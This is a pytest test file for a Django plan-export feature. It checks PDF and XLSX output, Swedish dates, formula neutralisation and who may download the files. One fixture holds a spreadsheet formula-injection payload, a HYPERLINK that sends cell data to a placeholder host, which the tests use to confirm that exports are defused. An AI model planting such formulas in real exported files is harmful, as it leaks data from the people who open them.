"""A plan as PDF and XLSX: readable files with the plan's words and Swedish dates, typed cells,
formulas neutralised, and only for those who may read the plan."""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from digiplan.plans import exports, services
from digiplan.plans.models import ActivityStatus, GoalOutcome
from tests.pdf_helpers import _objects, flat, pdf_text
from tests.plan_helpers import build_plan

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'


def url(plan, fmt):
    return reverse("plan_export", kwargs={"pk": plan.pk, "fmt": fmt})


@pytest.fixture
def fx(world):
    fx = build_plan(world)
    fx.late = services.activity_create(
        actor=world.leader_a,
        plan=fx.plan,
        goal=fx.goal,
        title=FORMULA,
        description="+SUM(1;2)",
        owner=world.leader_a,
        starts_on=datetime.date(2026, 8, 17),
        due_on=datetime.date(2026, 10, 2),
    )
    fx.loose = services.activity_create(
        actor=world.leader_a, plan=fx.plan, title="Utan mål <b>fet</b>", status=ActivityStatus.DONE
    )
    return fx


def test_the_pdf_holds_the_plans_words_and_swedish_dates(fx, world, client_for):
    response = client_for("staff").get(url(fx.plan, "pdf"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].endswith('-almskolan-2026-27.pdf"')
    body = response.content
    assert body.startswith(b"%PDF-")
    catalog = next(head for head, _data in _objects(body).values() if b"/Type /Catalog" in head)
    assert b"/StructTreeRoot" in catalog and b"/Lang (sv)" in catalog, "tagged, in Swedish"
    text = flat(pdf_text(body))
    for words in (
        "Almskolan",
        "2026/27",
        "Tryggare med verktygen",
        "KOMP.P1",
        "Studiecirkel om lärplattformen",
        "Per Personal",
        "medel minst 4",
        "Utan mål <b>fet</b>",
    ):
        assert words in text, words
    # Dates written out in Swedish, not in ISO form.
    assert "1 september 2026" in text
    assert "31 mars 2027" in text
    assert "2 oktober 2026" in text
    assert "2027-03-31" not in text


def test_the_pdf_shows_the_follow_up_once_there_is_one(fx, world):
    services.goal_follow_up(
        actor=world.leader_a,
        goal=fx.goal,
        revision=None,
        outcome=GoalOutcome.PARTLY,
        reflection="Halvvägs där, ärligt talat.",
    )
    services.plan_follow_up(actor=world.leader_a, plan=fx.plan, summary="Ett lärorikt år för Almskolan.")
    fx.plan.refresh_from_db()
    text = flat(pdf_text(exports.plan_pdf(fx.plan)))
    assert "Halvvägs där, ärligt talat." in text
    assert "Ett lärorikt år för Almskolan." in text


def test_the_workbook_has_typed_dates_and_no_live_formulas(fx, client_for):
    response = client_for("leader_a").get(url(fx.plan, "xlsx"))
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('-almskolan-2026-27.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    with translation.override("sv"):
        names = [translation.gettext("Goals"), translation.gettext("Activities")]
    assert book.sheetnames == names  # "Mål", "Aktiviteter" once translations are compiled
    goals, activities = book.worksheets
    assert goals["A2"].value == "Tryggare med verktygen"
    assert goals.freeze_panes == "A2" and activities.freeze_panes == "A2"
    assert goals.auto_filter.ref and activities.auto_filter.ref

    rows = {row[0].value: row for row in activities.iter_rows(min_row=2)}
    late = rows[f"'{FORMULA}"]
    assert late[0].data_type == "s", "the formula is text, not a formula"
    assert late[2].value == "'+SUM(1;2)"
    assert late[5].value == datetime.datetime(2026, 8, 17)
    assert late[6].value == datetime.datetime(2026, 10, 2)
    assert late[5].is_date and late[6].is_date
    studie = rows["Studiecirkel om lärplattformen"]
    assert studie[4].value == "Per Personal"
    assert studie[6].value == datetime.datetime(2027, 3, 31)
    assert rows["Utan mål <b>fet</b>"][1].value in (None, "")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"


def test_an_unknown_format_is_not_found(fx, client_for):
    assert client_for("leader_a").get(url(fx.plan, "csv")).status_code == 404
    assert client_for("leader_a").get(url(fx.plan, "PDF")).status_code == 404


@pytest.mark.parametrize(
    "persona, status",
    [("strategist", 200), ("leader_a", 200), ("staff", 200), ("leader_b", 404), ("other_strategist", 404)],
)
def test_a_published_plan_goes_to_its_readers(fx, client_for, persona, status):
    assert client_for(persona).get(url(fx.plan, "pdf")).status_code == status


def test_a_draft_goes_only_to_its_editors(world, client_for):
    plan = services.plan_create(actor=world.leader_a, organisation=world.unit_a, school_year="2027/28")
    expected = {"strategist": 200, "leader_a": 200, "staff": 404, "leader_b": 404, "other_strategist": 404}
    got = {p: client_for(p).get(url(plan, "xlsx")).status_code for p in expected}
    assert got == expected
    response = client_for("anonymous").get(url(plan, "xlsx"))
    assert response.status_code == 302 and reverse("login") in response["Location"]


def test_the_filename_names_unit_and_year(fx):
    with translation.override("sv"):
        name = exports.export_filename(fx.plan, "pdf")
    # "digitaliseringsplan-almskolan-2026-27.pdf" once the lead has compiled the translations.
    assert name.endswith("-almskolan-2026-27.pdf") and name == name.lower()
